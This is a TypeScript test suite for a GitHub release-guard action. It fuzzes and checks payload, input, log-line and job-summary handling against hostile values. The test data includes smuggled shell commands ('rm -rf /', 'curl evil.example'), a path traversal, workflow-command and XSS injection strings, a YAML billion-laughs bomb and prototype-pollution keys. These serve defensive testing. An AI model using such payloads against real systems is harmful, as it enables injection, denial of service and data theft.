import {
  createGuard,
  type Effect,
  type GuardEvent,
  type GuardSnapshot,
  parseEvent,
  type Step,
} from '@release-guard/core';
import { hostileText, liveMarkdown } from '@release-guard/core/testing';
import { RECOVERING_LINE } from '@release-guard/github-adapter';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
// The library surface: `index.ts` is the action's entry point and runs it when imported.
import {
  AUTO_EVENTS,
  EventPayloadError,
  type EventPlan,
  INPUT_NAMES,
  InputError,
  inertLogLine,
  parseInputs,
  planFor,
  renderGateSummary,
  renderSummary,
} from '../src/api.js';
import { workflowCommands } from './support/hostile-registry.js';

const SHA = 'a'.repeat(40);

// ---- Event payloads ------------------------------------------------------------------------------

const prPayload = (action: unknown, pullRequest: Record<string, unknown> = {}) => ({
  action,
  number: 7,
  pull_request: { number: 7, head: { sha: SHA, ref: 'releases/v1' }, merged: false, ...pullRequest },
});
const runPayload = (action: unknown, run: Record<string, unknown> = {}) => ({
  action,
  workflow_run: {
    id: 10,
    run_attempt: 1,
    head_sha: SHA,
    head_branch: 'releases/v1',
    path: '.github/workflows/release.yml',
    conclusion: 'success',
    ...run,
  },
});
const groupPayload = (action: unknown, group: Record<string, unknown> = {}, extra: Record<string, unknown> = {}) => ({
  action,
  merge_group: {
    head_sha: 'b'.repeat(40),
    head_ref: `refs/heads/gh-readonly-queue/main/pr-7-${SHA}`,
    base_sha: 'c'.repeat(40),
    base_ref: 'refs/heads/main',
    ...group,
  },
  ...extra,
});

/** Payloads that are not what GitHub sends for their event: each names the field that is wrong. */
const BAD_PAYLOADS: readonly { description: string; event: string; payload: unknown; field: string }[] = [
  { description: 'null', event: 'pull_request', payload: null, field: 'pull_request payload' },
  {
    description: 'an array of payloads',
    event: 'pull_request',
    payload: [prPayload('opened')],
    field: 'pull_request payload',
  },
  {
    description: 'truncated JSON handed over as text',
    event: 'pull_request',
    payload: '{"action":"opened","pull_re',
    field: 'pull_request payload',
  },
  { description: 'a number', event: 'workflow_run', payload: 42, field: 'workflow_run payload' },
  {
    description: 'no action',
    event: 'pull_request',
    payload: { pull_request: prPayload('x').pull_request },
    field: 'pull_request.action',
  },
  { description: 'the action as a number', event: 'pull_request', payload: prPayload(3), field: 'pull_request.action' },
  {
    description: 'the action as an array',
    event: 'pull_request',
    payload: prPayload(['opened']),
    field: 'pull_request.action',
  },
  {
    description: 'an empty action',
    event: 'pull_request_target',
    payload: prPayload(''),
    field: 'pull_request_target.action',
  },
  {
    description: 'no pull request',
    event: 'pull_request',
    payload: { action: 'opened', number: 7 },
    field: 'pull_request.pull_request',
  },
  {
    description: 'the pull request as an array',
    event: 'pull_request',
    payload: { action: 'opened', pull_request: [{ number: 7 }] },
    field: 'pull_request.pull_request',
  },
  {
    description: 'the pull request hidden behind an own __proto__ key',
    event: 'pull_request',
    payload: JSON.parse(
      `{"action":"opened","__proto__":${JSON.stringify({ pull_request: prPayload('x').pull_request })}}`,
    ),
    field: 'pull_request.pull_request',
  },
  {
    description: 'the number as a string',
    event: 'pull_request',
    payload: prPayload('opened', { number: '7' }),
    field: 'pull_request.pull_request.number',
  },
  {
    description: 'a negative number',
    event: 'pull_request',
    payload: prPayload('opened', { number: -7 }),
    field: 'pull_request.pull_request.number',
  },
  {
    description: 'a fractional number',
    event: 'pull_request',
    payload: prPayload('opened', { number: 7.5 }),
    field: 'pull_request.pull_request.number',
  },
  {
    description: 'number zero',
    event: 'pull_request',
    payload: prPayload('opened', { number: 0 }),
    field: 'pull_request.pull_request.number',
  },
  {
    description: 'a NaN number',
    event: 'pull_request',
    payload: prPayload('opened', { number: Number.NaN }),
    field: 'pull_request.pull_request.number',
  },
  {
    description: 'a number past 2^53',
    event: 'pull_request',
    payload: prPayload('opened', { number: 2 ** 53 }),
    field: 'pull_request.pull_request.number',
  },
  {
    description: 'an empty pull request (truncated)',
    event: 'pull_request',
    payload: { action: 'opened', pull_request: {} },
    field: 'pull_request.pull_request.number',
  },
  {
    description: 'no head',
    event: 'pull_request',
    payload: prPayload('synchronize', { head: undefined }),
    field: 'pull_request.pull_request.head',
  },
  {
    description: 'the head as a string',
    event: 'pull_request',
    payload: prPayload('synchronize', { head: SHA }),
    field: 'pull_request.pull_request.head',
  },
  {
    description: 'no head SHA',
    event: 'pull_request',
    payload: prPayload('synchronize', { head: { ref: 'releases/v1' } }),
    field: 'pull_request.pull_request.head.sha',
  },
  {
    description: 'the head SHA as a number',
    event: 'pull_request',
    payload: prPayload('reopened', { head: { sha: 1234567 } }),
    field: 'pull_request.pull_request.head.sha',
  },
  {
    description: 'a review without its pull request',
    event: 'pull_request_review',
    payload: { action: 'submitted', review: {} },
    field: 'pull_request_review.pull_request',
  },
  {
    description: 'a review of pull request number null',
    event: 'pull_request_review',
    payload: { action: 'submitted', pull_request: { number: null } },
    field: 'pull_request_review.pull_request.number',
  },
  {
    description: 'no workflow run',
    event: 'workflow_run',
    payload: { action: 'completed' },
    field: 'workflow_run.workflow_run',
  },
  {
    description: 'the workflow run as an array',
    event: 'workflow_run',
    payload: { action: 'completed', workflow_run: [] },
    field: 'workflow_run.workflow_run',
  },
  {
    description: 'the run id as a string',
    event: 'workflow_run',
    payload: runPayload('completed', { id: '10' }),
    field: 'workflow_run.workflow_run.id',
  },
  {
    description: 'a fractional run id',
    event: 'workflow_run',
    payload: runPayload('completed', { id: 10.5 }),
    field: 'workflow_run.workflow_run.id',
  },
  {
    description: 'no run head SHA',
    event: 'workflow_run',
    payload: runPayload('completed', { head_sha: undefined }),
    field: 'workflow_run.workflow_run.head_sha',
  },
  {
    description: 'no run head branch',
    event: 'workflow_run',
    payload: runPayload('in_progress', { head_branch: null }),
    field: 'workflow_run.workflow_run.head_branch',
  },
  {
    description: 'no workflow path',
    event: 'workflow_run',
    payload: runPayload('requested', { path: {} }),
    field: 'workflow_run.workflow_run.path',
  },
  { description: 'no run action', event: 'workflow_run', payload: runPayload(undefined), field: 'workflow_run.action' },
  {
    description: 'a dequeue without its reason',
    event: 'pull_request_target',
    payload: prPayload('dequeued'),
    field: 'pull_request_target.reason',
  },
  {
    description: 'a dequeue reason as an object',
    event: 'pull_request',
    payload: { ...prPayload('dequeued'), reason: { toString: 'MANUAL' } },
    field: 'pull_request.reason',
  },
  {
    description: 'no merge group',
    event: 'merge_group',
    payload: { action: 'checks_requested' },
    field: 'merge_group.merge_group',
  },
  {
    description: 'a merge group head SHA that is not a SHA',
    event: 'merge_group',
    payload: groupPayload('checks_requested', { head_sha: 'HEAD~1' }),
    field: 'merge_group.merge_group.head_sha',
  },
  {
    description: 'a merge group branch of another repository’s queue prefix',
    event: 'merge_group',
    payload: groupPayload('checks_requested', { head_ref: `refs/heads/my-queue/main/pr-7-${SHA}` }),
    field: 'merge_group.merge_group.head_ref',
  },
  {
    description: 'a merge group branch with a pull request number of letters',
    event: 'merge_group',
    payload: groupPayload('checks_requested', { head_ref: `refs/heads/gh-readonly-queue/main/pr-seven-${SHA}` }),
    field: 'merge_group.merge_group.head_ref',
  },
  {
    description: 'a merge group branch whose SHA carries a path',
    event: 'merge_group',
    payload: groupPayload('checks_requested', { head_ref: `refs/heads/gh-readonly-queue/main/pr-7-${SHA}/../x` }),
    field: 'merge_group.merge_group.head_ref',
  },
  {
    description: 'a merge group branch that is a number',
    event: 'merge_group',
    payload: groupPayload('checks_requested', { head_ref: 7 }),
    field: 'merge_group.merge_group.head_ref',
  },
  {
    description: 'a merge group without its base',
    event: 'merge_group',
    payload: groupPayload('checks_requested', { base_ref: undefined }),
    field: 'merge_group.merge_group.base_ref',
  },
  {
    description: 'a merge group destroyed for a reason GitHub never gives',
    event: 'merge_group',
    payload: groupPayload('destroyed', {}, { reason: 'merged\n::add-mask::x' }),
    field: 'merge_group.reason',
  },
];

/** `run` throws an `EventPayloadError` naming a field, or plans something the guard can apply. */
function expectPayloadErrorOrPlan(run: () => EventPlan): EventPlan | undefined {
  let plan: EventPlan;
  try {
    plan = run();
  } catch (error) {
    expect(error).toBeInstanceOf(EventPayloadError);
    expect((error as Error).message).toMatch(/^(the \S+ payload is not a JSON object|[\w.]+ must be [^\n]+)$/);
    return undefined;
  }
  expect(['pull-request', 'release-run', 'sweep', 'ignore']).toContain(plan.kind);
  return plan;
}

/** Every event a plan carries is one the guard accepts: a bad payload never reaches the core. */
function expectEventsAccepted(plan: EventPlan | undefined): void {
  const events: GuardEvent[] = plan && 'events' in plan ? plan.events : [];
  for (const event of events) expect(() => parseEvent(event)).not.toThrow();
}

describe('hostile event payloads: planFor', () => {
  for (const { description, event, payload, field } of BAD_PAYLOADS) {
    it(`${event}: ${description} → EventPayloadError naming ${field}`, () => {
      let caught: unknown;
      try {
        planFor(event, payload);
      } catch (error) {
        caught = error;
      }
      expect(caught).toBeInstanceOf(EventPayloadError);
      expect((caught as Error).message).toContain(field);
      expect((caught as Error).message).not.toMatch(/\n/);
    });
  }

  it('events the guard does not act on are an ignore plan, whatever their payload', () => {
    for (const payload of [{}, prPayload('opened'), { action: { nested: true } }]) {
      for (const event of ['push', 'issue_comment', 'release', '__proto__', 'constructor']) {
        expect(planFor(event, payload).kind).toBe('ignore');
      }
    }
  });

  it('well-formed payloads with hostile extra fields plan only their own events', () => {
    const extra = { __proto__: { admin: true }, review: { state: 'APPROVED' }, sender: { login: '<img src=x>' } };
    const plan = planFor('pull_request', { ...prPayload('synchronize'), ...extra });
    expect(plan).toEqual({ kind: 'pull-request', number: 7, events: [{ type: 'HEAD_CHANGED', sha: SHA }] });
    const review = planFor('pull_request_review', { ...prPayload('submitted'), review: { state: 'APPROVED' } });
    expect(review).toEqual({ kind: 'pull-request', number: 7, events: [] });
  });

  it('an edit that changes hostile fields is ignored with a short notice that quotes none of them raw', () => {
    const changes = Object.fromEntries(
      Array.from({ length: 1000 }, (_, i) => [`::add-mask::${'x'.repeat(i % 80)}<b>${i}`, { from: '' }]),
    );
    const plan = planFor('pull_request', { ...prPayload('edited'), changes });
    expect(plan.kind).toBe('ignore');
    const notice = plan.kind === 'ignore' ? plan.notice : '';
    expect(notice.length).toBeLessThan(400);
    expect(notice).not.toMatch(/::|<b>/);
  });

  it('a head SHA that is not a SHA is refused before it reaches the core', () => {
    expectEventsAccepted(
      expectPayloadErrorOrPlan(() => planFor('pull_request', prPayload('synchronize', { head: { sha: 'not-a-sha' } }))),
    );
  });

  it('a workflow run head SHA that is not a SHA is refused before it reaches the core', () => {
    expectEventsAccepted(
      expectPayloadErrorOrPlan(() => planFor('workflow_run', runPayload('completed', { head_sha: 'zz' }))),
    );
  });

  it('a merger login of 1,000 characters is refused before it reaches the core', () => {
    const payload = prPayload('closed', { merged: true, merged_by: { login: 'x'.repeat(1000) } });
    expectEventsAccepted(expectPayloadErrorOrPlan(() => planFor('pull_request', payload)));
  });

  it('a run conclusion that is not one of GitHub’s is refused before it reaches the core', () => {
    expectEventsAccepted(
      expectPayloadErrorOrPlan(() =>
        planFor('workflow_run', runPayload('completed', { conclusion: 'x'.repeat(5000) })),
      ),
    );
  });

  it('a negative run id or a fractional run attempt is an EventPayloadError', () => {
    for (const run of [{ id: -10 }, { run_attempt: 1.5 }, { run_attempt: -1 }]) {
      expect(() => planFor('workflow_run', runPayload('completed', run))).toThrow(EventPayloadError);
    }
  });

  it('a hostile merge group branch is refused with a message that quotes none of it', () => {
    for (const head_ref of [
      `refs/heads/gh-readonly-queue/main/::add-mask::x/pr-7-${SHA}`,
      `refs/heads/gh-readonly-queue/<img src=x>/pr-7-${SHA}\n`,
      `refs/heads/gh-readonly-queue/${'a/'.repeat(50_000)}pr-7-${SHA}`,
      `refs/heads/gh-readonly-queue/main/pr-7-${SHA}${'0'.repeat(24)}0`,
    ]) {
      let message = '';
      try {
        planFor('merge_group', groupPayload('checks_requested', { head_ref }));
      } catch (error) {
        expect(error).toBeInstanceOf(EventPayloadError);
        message = (error as Error).message;
      }
      expect(message).toMatch(/^merge_group\.merge_group\.head_ref must /);
      expect(message).not.toMatch(/::|<img|\n|a\/a\//);
    }
    // A base that holds `/` and the queue's own words is still read from the right.
    const plan = planFor(
      'merge_group',
      groupPayload('checks_requested', {
        head_ref: `refs/heads/gh-readonly-queue/pr-1-${SHA}/pr-7-${SHA}`,
        base_ref: `refs/heads/pr-1-${SHA}`,
      }),
    );
    expect(plan).toEqual({
      kind: 'pull-request',
      number: 7,
      events: [{ type: 'MERGE_GROUP', sha: SHA, groupSha: 'b'.repeat(40) }],
    });
  });

  it('a hostile dequeue reason reaches the core as one short, inert word', () => {
    const reason = `CI_FAILURE\n::add-mask::x <img src=x onerror=alert(1)> ${'y'.repeat(100_000)}`;
    const plan = planFor('pull_request_target', { ...prPayload('dequeued'), reason });
    expectEventsAccepted(plan);
    const [event] = plan.kind === 'pull-request' ? plan.events : [];
    expect(event?.type).toBe('DEQUEUED');
    expect(event && 'reason' in event ? event.reason : '').toMatch(/^[A-Za-z0-9_.?-]{1,40}…$/);
  });

  it('an ignore notice shows the payload’s action as one short, inert word', () => {
    const plan = planFor('pull_request', prPayload(`x\n<img src=x onerror=alert(1)>\n${'y'.repeat(100_000)}`));
    expect(plan.kind).toBe('ignore');
    if (plan.kind === 'ignore') expect(plan.notice).toMatch(/^[^\n<]{1,300}$/);
  });
});

describe('fuzzing planFor with fast-check', () => {
  const events = fc.constantFrom(...AUTO_EVENTS, 'push');
  const anything = fc.anything({
    maxDepth: 3,
    key: fc.oneof(
      fc.string(),
      fc.constantFrom('__proto__', 'constructor', 'action', 'pull_request', 'workflow_run', 'merge_group', 'reason'),
    ),
    withBoxedValues: true,
    withNullPrototype: true,
    withSparseArray: true,
    withMap: true,
    withBigInt: true,
  });

  it('any payload is a plan or an EventPayloadError naming a field, never another exception', () => {
    fc.assert(
      fc.property(
        events,
        fc.oneof(
          anything,
          fc.json().map((text) => JSON.parse(text) as unknown),
        ),
        (event, payload) => {
          expectPayloadErrorOrPlan(() => planFor(event, payload));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('a real payload with one field replaced or removed is a plan or an EventPayloadError', () => {
    const paths = [
      'action',
      'pull_request',
      'pull_request.number',
      'pull_request.head',
      'pull_request.head.sha',
      'pull_request.merged',
      'pull_request.merged_by',
      'changes',
      'changes.title',
      'workflow_run',
      'workflow_run.id',
      'workflow_run.run_attempt',
      'workflow_run.head_sha',
      'workflow_run.head_branch',
      'workflow_run.path',
      'workflow_run.conclusion',
      'reason',
      'merge_group',
      'merge_group.head_sha',
      'merge_group.head_ref',
      'merge_group.base_ref',
    ];
    const actions = fc.constantFrom(
      'opened',
      'synchronize',
      'edited',
      'reopened',
      'closed',
      'completed',
      'requested',
      'in_progress',
      'enqueued',
      'dequeued',
      'checks_requested',
      'destroyed',
    );
    const mutated = fc
      .tuple(events, actions, fc.constantFrom(...paths), fc.option(anything, { nil: undefined }))
      .map(([event, action, path, value]) => {
        const payload = structuredClone({
          ...prPayload(action, { merged: true }),
          ...runPayload(action),
          ...groupPayload(action, {}, { reason: action === 'destroyed' ? 'dequeued' : 'MANUAL' }),
          changes: { title: { from: 'chore(main): release 1.0.0' } },
        }) as Record<string, unknown>;
        const keys = path.split('.');
        const last = keys.pop() as string;
        const parent = keys.reduce((node, key) => node[key] as Record<string, unknown>, payload);
        if (value === undefined) delete parent[last];
        else Object.defineProperty(parent, last, { value, enumerable: true, writable: true, configurable: true });
        return [event, payload] as const;
      });
    fc.assert(
      fc.property(mutated, ([event, payload]) => {
        expectPayloadErrorOrPlan(() => planFor(event, payload));
      }),
      { numRuns: 300 },
    );
  });
});

// ---- Inputs ---------------------------------------------------------------------------------------

const TOKEN = 'ghp_0123456789abcdefABCDEF0123456789abcd';
/** A fine-grained personal access token: 93 characters, longer than an error message quotes. */
const LONG_TOKEN = `github_pat_11ABCDEFG0${'aB3dE5gH7j'.repeat(8)}Kl`;

const env = (inputs: Record<string, string>) =>
  Object.fromEntries(Object.entries(inputs).map(([name, value]) => [`INPUT_${name.toUpperCase()}`, value]));

/** The `InputError` parsing `inputs` throws (with the token), or undefined when they are accepted. */
function inputError(inputs: Record<string, string>, token = TOKEN): InputError | undefined {
  try {
    parseInputs(env({ token, ...inputs }));
  } catch (error) {
    expect(error).toBeInstanceOf(InputError);
    return error as InputError;
  }
  return undefined;
}

const YAML_BOMB = [
  'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
  'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
  'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
  'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
  'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
  'g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
].join('\n');

/** Inputs that are not of their expected form: each fails with an `InputError` naming that input. */
const BAD_INPUTS: readonly { description: string; inputs: Record<string, string>; input: string }[] = [
  { description: 'no token', inputs: { token: '' }, input: 'token' },
  { description: 'a token of only whitespace', inputs: { token: ' \n\t ' }, input: 'token' },
  { description: 'an unknown command', inputs: { command: 'deploy' }, input: 'command' },
  { description: 'a command in upper case', inputs: { command: 'AUTO' }, input: 'command' },
  { description: 'a command naming __proto__', inputs: { command: '__proto__' }, input: 'command' },
  { description: 'two commands on two lines', inputs: { command: 'auto\nrelease-started' }, input: 'command' },
  { description: 'a command of a megabyte', inputs: { command: 'auto'.repeat(250_000) }, input: 'command' },
  { description: 'an unknown status kind', inputs: { 'status-kind': 'checks' }, input: 'status-kind' },
  { description: 'an unknown merge method', inputs: { 'merge-method': 'fast-forward' }, input: 'merge-method' },
  {
    description: 'a minimum permission below write',
    inputs: { 'minimum-permission': 'read' },
    input: 'minimum-permission',
  },
  { description: 'a negative timeout', inputs: { 'release-timeout': '-5' }, input: 'release-timeout' },
  { description: 'a fractional timeout', inputs: { 'release-timeout': '1.5' }, input: 'release-timeout' },
  { description: 'a zero timeout', inputs: { 'release-timeout': '0' }, input: 'release-timeout' },
  { description: 'a timeout in exponent notation', inputs: { 'release-timeout': '1e3' }, input: 'release-timeout' },
  { description: 'a hexadecimal timeout', inputs: { 'release-timeout': '0x10' }, input: 'release-timeout' },
  { description: 'a timeout in full-width digits', inputs: { 'release-timeout': '６０' }, input: 'release-timeout' },
  {
    description: 'a timeout of twenty digits',
    inputs: { 'release-timeout': '9'.repeat(20) },
    input: 'release-timeout',
  },
  { description: 'an infinite timeout', inputs: { 'release-timeout': 'Infinity' }, input: 'release-timeout' },
  { description: 'dry-run as yes', inputs: { 'dry-run': 'yes' }, input: 'dry-run' },
  { description: 'dry-run in upper case', inputs: { 'dry-run': 'TRUE' }, input: 'dry-run' },
  {
    description: 'a pull request number that is not a number',
    inputs: { 'pull-request': '7; rm -rf /' },
    input: 'pull-request',
  },
  { description: 'a version with a shell command', inputs: { version: 'v1 && curl evil.example' }, input: 'version' },
  { description: 'a version with a path', inputs: { version: '../../etc/passwd' }, input: 'version' },
  {
    description: 'artifacts YAML cut short',
    inputs: { artifacts: '- name: image\n  ref: [ghcr.io/a' },
    input: 'artifacts',
  },
  {
    description: 'artifacts as a mapping, not a list',
    inputs: { artifacts: 'name: image\nref: r' },
    input: 'artifacts',
  },
  { description: 'artifacts as a list of names', inputs: { artifacts: '- image\n- chart' }, input: 'artifacts' },
  { description: 'artifacts as a billion-laughs bomb', inputs: { artifacts: YAML_BOMB }, input: 'artifacts' },
  {
    description: 'artifacts duplicated through an alias',
    inputs: { artifacts: '- &image {name: image, ref: "ghcr.io/a:{version}"}\n- *image' },
    input: 'artifacts',
  },
  {
    description: 'an artifact after itself through an alias',
    inputs: { artifacts: '- name: a\n  ref: r\n  after: &x [*x]' },
    input: 'artifacts',
  },
  {
    description: 'an artifact with a merge key',
    inputs: { artifacts: '- &base {name: a, ref: r}\n- <<: *base\n  name: b' },
    input: 'artifacts',
  },
  {
    description: 'an artifact with an own __proto__ key',
    inputs: { artifacts: '- name: a\n  ref: r\n  __proto__: {onMerge: true}' },
    input: 'artifacts',
  },
  {
    description: 'an artifact with a language-specific tag',
    inputs: { artifacts: '- !!js/function "function () {}"' },
    input: 'artifacts',
  },
  {
    description: 'a thousand artifacts',
    inputs: { artifacts: Array.from({ length: 1_000 }, (_, i) => `- {name: a${i}, ref: r}`).join('\n') },
    input: 'artifacts',
  },
  {
    description: 'artifacts ordered in a cycle',
    inputs: { artifacts: '- {name: a, ref: r, after: [b]}\n- {name: b, ref: r, after: [a]}' },
    input: 'artifacts',
  },
  {
    description: 'a release branch glob with a space',
    inputs: { 'release-branch': 'releases/ *' },
    input: 'release-branch',
  },
  {
    description: 'a release branch glob with a character class',
    inputs: { 'release-branch': 'releases/v[0-9]*' },
    input: 'release-branch',
  },
  {
    description: 'a status context of 300 characters',
    inputs: { 'status-context': 'r'.repeat(300) },
    input: 'status-context',
  },
];

describe('hostile inputs: parseInputs', () => {
  for (const { description, inputs, input } of BAD_INPUTS) {
    it(`${description} → InputError naming '${input}'`, () => {
      const error = inputError(inputs);
      expect(error).toBeInstanceOf(InputError);
      expect(error?.input).toBe(input);
      expect(error?.message.startsWith(`input '${input}': `)).toBe(true);
      expect(error?.message).not.toMatch(/\n/);
      expect(error?.message.length).toBeLessThan(1_000);
      expect(error?.message).not.toContain(TOKEN);
    });
  }

  it('accepts a small YAML list with anchors and aliases used as intended', () => {
    const artifacts =
      '- &image {name: image, ref: "ghcr.io/a:{version}"}\n- {name: chart, ref: "ghcr.io/c:{version}", after: [image], on-merge: true}';
    expect(parseInputs(env({ token: TOKEN, artifacts })).config.artifacts).toEqual([
      { name: 'image', ref: 'ghcr.io/a:{version}' },
      { name: 'chart', ref: 'ghcr.io/c:{version}', after: ['image'], onMerge: true },
    ]);
  });

  /** Other inputs carrying the token, as a mistaken `with:` block would pass it. */
  const carriers = (token: string) => [
    token,
    `${token} `,
    `x${token}`,
    `${token}${token}`,
    `releases/ ${token}`,
    `- name: a\n  ref: x{${token}`,
    `- name: a\n  ref: r\n  after: [${token}]`,
    `${token}: [`,
  ];
  const others = INPUT_NAMES.filter((name) => !['token', 'merge-token', 'registry-token'].includes(name));

  it('no error message ever contains the value of INPUT_TOKEN', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(TOKEN, LONG_TOKEN, 'ghs_16C7e42F292c6912E7710c838347Ae178B4a'),
        fc.constantFrom(...others),
        fc.nat(7),
        (token, name, pick) => {
          const error = inputError({ [name]: carriers(token)[pick] as string }, token);
          if (error !== undefined) expect(error.message).not.toContain(token);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('a long token in another input never appears, not even in part', () => {
    const error = inputError({ command: LONG_TOKEN }, LONG_TOKEN);
    expect(error).toBeInstanceOf(InputError);
    for (let i = 0; i + 16 <= LONG_TOKEN.length; i++) expect(error?.message).not.toContain(LONG_TOKEN.slice(i, i + 16));
  });

  it('any value of any input is accepted or an InputError naming that input', () => {
    const value = fc.oneof(
      fc.string(),
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.constantFrom('auto', 'true', '60', '- name: a\n  ref: r', '*a', '&a [*a]', '{', '!!binary AAAA', '0'),
    );
    fc.assert(
      fc.property(fc.constantFrom(...others), value, (name, text) => {
        const error = inputError({ [name]: text });
        if (error !== undefined) expect(error.input).toBe(name);
      }),
      { numRuns: 300 },
    );
  });
});

// ---- Log lines ------------------------------------------------------------------------------------

describe('hostile text in a log line: inertLogLine', () => {
  const LINES = [
    'x\n::add-mask::y',
    '::stop-commands::pwned',
    '  ::error::indented',
    '\t::warning::after a tab',
    '\u0085::debug::after a NEL',
    '\u00a0\u3000::notice::after Unicode spaces',
    'a\r::set-output name=x::y',
    'the ##[add-mask]legacy command, anywhere in a line',
    '%0A::add-mask::already escaped %25',
    '\u2028::group::after a line separator\u2029',
    '\u001b[31mred\u001b[0m \u0000 \u007f \u009b',
  ];

  for (const text of LINES) {
    it(`${JSON.stringify(text).slice(0, 50)} is one line that is no workflow command, and decodes back`, () => {
      const line = inertLogLine(text);
      expect(line).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
      expect(workflowCommands(line)).toEqual([]);
      expect(decodeURIComponent(line)).toBe(text);
    });
  }

  it('leaves plain text as it is', () => {
    const text = 'missing: image ghcr.io/weaveworks/wego-app:v0.29.0 (manifest unknown: 404 MANIFEST_UNKNOWN)';
    expect(inertLogLine(text)).toBe(text);
  });

  it('any text is one line that is no workflow command, and decodes back (fast-check)', () => {
    const text = fc.string({
      unit: fc.oneof(
        fc.constantFrom(':', '::', '#', '##[', '[', ']', '%', '%0A', '\r', '\n', ' ', '\t', '\u0085', '\u2028', 'a'),
        fc.string({ unit: 'grapheme', maxLength: 1 }),
      ),
      maxLength: 40,
    });
    fc.assert(
      fc.property(text, (value) => {
        const line = inertLogLine(value);
        expect(line).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
        expect(workflowCommands(line)).toEqual([]);
        expect(decodeURIComponent(line)).toBe(value);
      }),
      { numRuns: 300 },
    );
  });
});

// ---- The job summary ------------------------------------------------------------------------------

const OWN = {
  ownTags: ['<details><summary>', '</summary>', '</details>'],
  ownLines: ['> [!WARNING]', '> [!CAUTION]', RECOVERING_LINE],
  ownReferences: ['#7'],
};

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '[click](javascript:alert(1))',
  '@octocat see #12 at https://evil.example and www.evil.example',
  '<!-- release-guard:state v1 sha=bbbbbbb e30= -->',
  '| forged | row |\n| --- | --- |',
  '`code` ``` <details open>hidden</details>',
  'line\r\n### heading\u2028> quote',
];

const anyBranch = createGuard({ releaseBranch: '**' });
function runOf(text: string): { snapshot: GuardSnapshot; effects: { effect: Effect; executed: boolean }[] } {
  const events: GuardEvent[] = [
    { type: 'APPROVED', sha: SHA, reviewId: 1, reviewer: text.slice(0, 64) || 'x', authorized: true },
    { type: 'RELEASE_FAILED', sha: SHA, runId: 2, reason: text || 'x' },
    { type: 'MERGED', sha: SHA, by: text.slice(0, 64) || 'x' },
  ];
  let step: Step = anyBranch.start({
    number: 7,
    headRef: 'releases/<img/src=x>',
    headSha: SHA,
    baseRef: 'main',
    fromFork: false,
  });
  const effects = [...step.effects];
  for (const event of events) {
    step = anyBranch.next(step.snapshot, event);
    effects.push(...step.effects);
  }
  return { snapshot: step.snapshot, effects: effects.map((effect) => ({ effect, executed: false })) };
}

describe('hostile text in the job summary: renderSummary', () => {
  for (const text of HOSTILE) {
    it(`stays inert with ${JSON.stringify(text).slice(0, 50)} in the snapshot, the ignored events and the alerts`, () => {
      const summary = renderSummary({ ...runOf(text), ignored: [text], alerts: [text] });
      expect(liveMarkdown(summary, OWN)).toEqual([]);
      expect(summary).toContain('class merged current');
    });
  }

  it('stays inert for any hostile text (fast-check)', () => {
    const hostile = hostileText(50);
    fc.assert(
      fc.property(hostile, fc.array(hostile, { maxLength: 3 }), (text, notes) => {
        const summary = renderSummary({ ...runOf(text), ignored: notes, alerts: notes });
        expect(liveMarkdown(summary, OWN)).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  it('the gate summary keeps hostile names and reasons inert', () => {
    const summary = renderGateSummary(HOSTILE[0] as string, {
      open: false,
      predecessors: HOSTILE.map((text) => ({ name: text, ref: 'ghcr.io/a:v1', present: false, reason: text })),
    });
    expect(liveMarkdown(summary)).toEqual([]);
  });

  it('a carriage return in a gate ref cannot end the code span or the table row', () => {
    const summary = renderGateSummary('chart', {
      open: false,
      predecessors: [
        { name: 'image', ref: 'ghcr.io/a:v1\r<img src=x onerror=alert(1)>', present: false, reason: 'gone' },
      ],
    });
    // Markdown ends a line at \r as at \n: every row of the table must still have its three cells.
    const rows = summary.split(/\r\n|\r|\n/).slice(2);
    for (const row of rows) expect((row.match(/\|/g) ?? []).length).toBe(4);
  });
});
